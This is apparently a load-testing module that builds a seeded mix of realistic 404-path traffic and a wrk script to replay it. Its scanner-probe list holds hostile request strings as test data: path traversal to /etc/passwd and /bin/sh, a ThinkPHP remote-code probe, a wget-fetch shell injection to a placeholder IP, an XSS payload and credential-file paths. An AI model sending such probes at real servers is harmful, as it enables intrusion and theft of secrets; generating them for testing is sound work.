// The realistic request mix: what a public service's 404 path sees in a day, as distinct requests
// (scanner probes, some %-encoded as path-traversal and injection probes are, crawler and browser
// paths), five kinds of Accept, a Referer on a third, varied user agents. Deterministic for a seed,
// so every server of a run and every run get the same list.

/** A small seeded generator (mulberry32): the same seed gives the same mix. */
function randomFor(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SCANNER_PATHS = [
  '/wp-login.php', '/.env', '/.git/config', '/wp-admin/setup-config.php', '/xmlrpc.php', '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/actuator/health',
  '/server-status', '/config.json', '/.aws/credentials', '/owa/auth/logon.aspx', '/boaform/admin/formLogin',
  '/HNAP1/', '/solr/admin/info/system', '/.DS_Store', '/backup.zip', '/admin/config.php', '/api/v1/pods',
  // %-encoded, as traversal and injection probes arrive: the access log's masking reads these.
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array',
  '/shell?cd+/tmp;wget+http%3A%2F%2F192.0.2.1%2Fx.sh', '/search.php?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
];
const CRAWLER_PATHS = ['/robots.txt', '/sitemap.xml', '/favicon.ico', '/apple-touch-icon.png', '/.well-known/security.txt', '/ads.txt', '/humans.txt'];
const WORDS = ['summer', 'linen', 'coffee', 'garden', 'winter', 'boots', 'lamp', 'poster', 'madrid', 'barcelona', 'vinyl', 'desk'];

/** Five kinds of Accept, as clients send them (undefined: no header, as curl and many bots). */
export const ACCEPTS = [
  undefined,
  '*/*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'application/json',
  'application/json, text/plain, */*',
];

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Go-http-client/1.1',
  'Mozilla/5.0 zgrab/0.x',
  'axios/1.7.7',
];

/**
 * `count` distinct requests for `seed`: { path, headers } with the headers as a client sends them.
 * A path is distinct by an id, a page number or a query, as real traffic is.
 */
export function requestMix(count = 4000, seed = 2026) {
  const random = randomFor(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const requests = [];
  const seen = new Set();
  for (let i = 0; i < count; i++) {
    const kind = random();
    let path;
    if (kind < 0.35) {
      const probe = pick(SCANNER_PATHS);
      path = `${probe}${random() < 0.5 ? '' : `${probe.includes('?') ? '&' : '?'}${pick(WORDS)}=${i}`}`;
    }
    else if (kind < 0.5) path = `${pick(CRAWLER_PATHS)}${random() < 0.7 ? '' : `?v=${i}`}`;
    else if (kind < 0.7) path = `/products/${pick(WORDS)}-${pick(WORDS)}-${i}`;
    else if (kind < 0.85) path = `/blog/2026/${1 + (i % 12)}/${pick(WORDS)}-${i}`;
    else path = `/search?q=${pick(WORDS)}+${pick(WORDS)}&page=${i % 40}`;
    // Crawler paths repeat across the mix; the query or id keeps each request distinct.
    if (!path.includes('?') && !/\d/.test(path)) path += `?r=${i}`;
    if (seen.has(path)) path += `${path.includes('?') ? '&' : '?'}n=${i}`;
    seen.add(path);
    const headers = { 'user-agent': pick(USER_AGENTS) };
    const accept = ACCEPTS[i % ACCEPTS.length];
    if (accept) headers.accept = accept;
    if (i % 3 === 0) headers.referer = `https://www.example.com/${pick(WORDS)}/${i}?utm_source=${pick(WORDS)}`;
    requests.push({ path, headers });
  }
  return requests;
}

/**
 * A wrk script that sends the mix in order, each wrk thread from its own offset. The requests
 * are formatted in `init`, once wrk knows the Host it adds to each.
 */
export function wrkScript(requests) {
  const quote = (s) => JSON.stringify(s);
  const rows = requests.map(({ path, headers }) => {
    const h = Object.entries(headers).map(([k, v]) => `[${quote(k)}]=${quote(v)}`).join(',');
    return `{${quote(path)}, {${h}}}`;
  });
  return [
    'local mix = {',
    rows.join(',\n'),
    '}',
    'local requests = {}',
    'local n = #mix',
    'local i = 0',
    'function setup(thread) thread:set("offset", math.random(n)) end',
    'function init(args)',
    '  i = tonumber(offset) or 0',
    '  for k, r in ipairs(mix) do requests[k] = wrk.format("GET", r[1], r[2]) end',
    'end',
    'function request() i = i % n + 1; return requests[i] end',
    '',
  ].join('\n');
}
